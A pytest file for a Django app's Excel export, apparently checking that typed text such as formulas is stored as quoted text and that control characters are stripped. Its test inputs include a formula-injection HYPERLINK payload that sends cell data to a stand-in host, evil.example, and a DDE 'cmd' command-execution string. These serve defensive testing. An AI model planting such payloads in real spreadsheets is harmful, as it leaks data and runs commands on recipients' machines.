"""Spreadsheet exports never turn typed text into formulas and never fail on control characters; free text is
cleaned of control characters where it comes in (core.validators.clean_text)."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import load_workbook

from onewindow.core.excel import xlsx_bytes
from tests.cases.conftest import catalog  # noqa: F401 — a fixture

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
DANGEROUS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _sheet(data: bytes, title: str | None = None):
    wb = load_workbook(io.BytesIO(data))
    return wb[title] if title else wb.worksheets[0]


def test_text_that_looks_like_a_formula_is_written_as_quoted_text_with_the_visible_text_unchanged() -> None:
    ws = _sheet(xlsx_bytes({"导出": (["说明", "=header"], [[text, "普通文字"] for text in DANGEROUS])}))
    assert ws["B1"].value == "=header" and ws["B1"].data_type == "s"
    for row, text in enumerate(DANGEROUS, start=2):
        cell = ws.cell(row=row, column=1)
        assert cell.data_type == "s", (text, cell.data_type)  # a string, not a formula ("f")
        assert cell.value == text.replace("\r", "\n")  # exactly what was typed (a line break stays a line break)
        assert cell.quotePrefix  # stays text even after someone edits the cell in Excel
        assert ws.cell(row=row, column=2).quotePrefix is False


def test_the_file_itself_holds_no_formula_element() -> None:
    import zipfile

    data = xlsx_bytes({"导出": (["说明"], [[text] for text in DANGEROUS])})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


def test_numbers_and_dates_stay_numbers_and_dates() -> None:
    import datetime as dt

    ws = _sheet(xlsx_bytes({"s": (["n", "d"], [[-5, dt.date(2026, 3, 2)]])}))
    assert ws["A2"].value == -5 and ws["A2"].data_type == "n"
    assert ws["B2"].value.date() == dt.date(2026, 3, 2)


def test_control_characters_that_xlsx_cannot_hold_are_removed_instead_of_failing_the_export() -> None:
    text = "林晓梅\x0b申请\x00材料\x1b[0m\n第二行\t制表"
    ws = _sheet(xlsx_bytes({"s": (["名称\x0c"], [[text]])}))
    assert ws["A1"].value == "名称"
    assert ws["A2"].value == "林晓梅申请材料[0m\n第二行\t制表"


@pytest.mark.django_db
def test_the_catalog_export_over_http_writes_a_formula_like_name_as_text_and_survives_a_vertical_tab(
        catalog, make_user) -> None:  # noqa: F811
    from django.contrib.auth.models import User

    catalog.employ.name = HYPERLINK
    catalog.employ.acceptance_conditions = "年满16周岁\x0b（复制自文档）"
    catalog.employ.save()
    admin = Client()
    admin.force_login(User.objects.create_superuser("export_admin", "", "an-admin-password-2026"))
    response = admin.get("/admin/catalog/serviceitem/export.xlsx")
    assert response.status_code == 200
    ws = _sheet(response.content, "事项")
    headers = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "T-EMPLOY")
    name = row[headers.index("事项名称")]
    assert name.value == HYPERLINK and name.data_type == "s" and name.quotePrefix
    assert row[headers.index("受理条件")].value == "年满16周岁（复制自文档）"


def test_every_xlsx_in_the_code_is_written_by_core_excel() -> None:
    """One safe writer: no other module builds an openpyxl Workbook (reading one with load_workbook is fine)."""
    src = Path(__file__).resolve().parents[2] / "src" / "onewindow"
    writers = [str(p.relative_to(src)) for p in src.rglob("*.py")
               if re.search(r"\bWorkbook\(|from import_export|import tablib", p.read_text(encoding="utf-8"))]
    assert writers == ["core/excel.py"], writers


@pytest.mark.parametrize(("raw", "clean"), [
    ("林晓梅\x0b", "林晓梅"),
    ("第一行\r\n第二行\r第三行", "第一行\n第二行\n第三行"),
    ("a\x00b\x07c\x1bd\x7f", "abcd\x7f"),
    ("保留\t制表符\n和换行", "保留\t制表符\n和换行"),
    (None, ""),
    (12, "12"),
])
def test_clean_text_removes_c0_control_characters_except_tab_and_line_feed(raw: object, clean: str) -> None:
    from onewindow.core.validators import clean_text

    assert clean_text(raw) == clean


def test_clean_text_single_line_turns_breaks_and_tabs_into_one_space() -> None:
    from onewindow.core.validators import clean_text

    assert clean_text(" 福安市\r\n\t闽东电机\x0b有限公司 ", multiline=False) == "福安市 闽东电机有限公司"
